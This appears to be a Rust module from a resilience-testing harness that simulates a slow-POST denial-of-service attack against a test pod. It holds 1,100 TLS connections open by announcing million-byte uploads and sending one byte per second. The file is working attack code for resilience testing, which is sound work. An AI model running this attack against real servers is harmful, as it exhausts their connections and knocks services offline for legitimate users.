//! `stalled_uploads`: 1,100 HTTPS connections to the target domain, each a POST announcing
//! a 1,000,000-byte body and sending one byte a second.

use std::{
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use tokio::{io::AsyncWriteExt, sync::Semaphore, task::JoinSet};

use super::{ATTACKER, Context, Stop};
use crate::abuse::{pod::TARGET, tls::Tls};

const UPLOADS: usize = 1_100;
/// TLS handshakes in progress at once while the attack builds up.
const CONNECTING: usize = 64;

pub(super) async fn run(context: Context) -> anyhow::Result<String> {
    let tls = Tls::new(&context.cert_pem, b"http/1.1")?;
    let open = Arc::new(AtomicUsize::new(0));
    let permits = Arc::new(Semaphore::new(CONNECTING));
    let mut tasks = JoinSet::new();
    for _ in 0..UPLOADS {
        let permit = permits.clone().acquire_owned().await?;
        if context.stop.now() {
            break;
        }
        let (tls, stop, open) = (tls.clone(), context.stop.clone(), open.clone());
        let https = context.https;
        tasks.spawn(async move {
            let stream = tls.connect_from(ATTACKER, https, TARGET).await;
            drop(permit);
            if let Ok(stream) = stream {
                upload(stream, &stop, &open).await;
            }
        });
    }
    // Every connection has been tried once the last permits come back.
    let _all = permits.acquire_many(CONNECTING as u32).await?;
    let held = open.load(Ordering::Relaxed);
    let _ = context.ready.send(());
    context.stop.wait().await;
    while tasks.join_next().await.is_some() {}
    Ok(format!("{held} of {UPLOADS} uploads held open"))
}

/// Sends the head and then a byte a second until told to stop or the pod gives up.
async fn upload(mut stream: impl AsyncWriteExt + Unpin, stop: &Stop, open: &AtomicUsize) {
    let head =
        format!("POST /upload HTTP/1.1\r\nHost: {TARGET}\r\nContent-Length: 1000000\r\n\r\nx");
    if stream.write_all(head.as_bytes()).await.is_err() {
        return;
    }
    open.fetch_add(1, Ordering::Relaxed);
    while !stop.now() {
        tokio::time::sleep(Duration::from_secs(1)).await;
        if stream.write_all(b"x").await.is_err() {
            break;
        }
    }
    open.fetch_sub(1, Ordering::Relaxed);
}
